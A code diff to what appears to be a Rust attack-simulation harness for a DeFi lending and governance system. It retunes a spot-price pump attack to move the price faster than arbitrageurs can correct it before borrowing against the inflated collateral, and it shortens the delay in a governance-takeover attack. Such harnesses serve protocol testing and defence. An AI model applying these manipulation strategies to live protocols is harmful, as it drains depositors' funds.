@@ -267,7 +267,7 @@ impl Attack {
                 p.setup(
                     a.deployer.address(),
                     v.usd,
-                    StableToken::mintCall { to: me, amount: usd(2_000_000) },
+                    StableToken::mintCall { to: me, amount: usd(2_500_000) },
                     "buy capital",
                 );
                 let c = p.deploy(
@@ -284,10 +284,11 @@ impl Attack {
                     ),
                 );
                 p.prepare_call(0, v.usd, IERC20::approveCall { spender: c, value: U256::MAX }, "approve");
-                for block in 0..4 {
-                    p.exec(block, c, SpotPumpAttacker::pumpCall { usdAmount: usd(500_000) }, "pump");
+                // Faster than the arbitrageurs can trade the price back (they move at most $150k a block).
+                for block in 0..2 {
+                    p.exec(block, c, SpotPumpAttacker::pumpCall { usdAmount: usd(1_250_000) }, "pump");
                 }
-                p.exec(4, c, SpotPumpAttacker::borrowAgainstCall { marketId: U256::from(MARKET_WETH_SPOT) }, "borrow");
+                p.exec(2, c, SpotPumpAttacker::borrowAgainstCall { marketId: U256::from(MARKET_WETH_SPOT) }, "borrow");
             }
             Attack::LegacyBorrowDrain => {
                 let c = p.deploy(
@@ -338,8 +339,8 @@ impl Attack {
                 );
                 p.prepare_call(0, v.gov, IERC20::transferCall { to: c, value: units18(1_000) }, "fund");
                 p.exec(0, c, GovernanceAttacker::proposeCall { tokens: vec![v.usd, v.weth] }, "propose");
-                let day = (24 * 3600u64).div_ceil(BLOCK_SECONDS) + 1;
-                p.exec(day, c, GovernanceAttacker::executeCall { votes: units18(690_000) }, "vote-and-commit");
+                let delay = 3600u64.div_ceil(BLOCK_SECONDS) + 1;
+                p.exec(delay, c, GovernanceAttacker::executeCall { votes: units18(690_000) }, "vote-and-commit");
             }
             Attack::AdminKey => {
                 let role = keccak256("UPGRADER_ROLE");
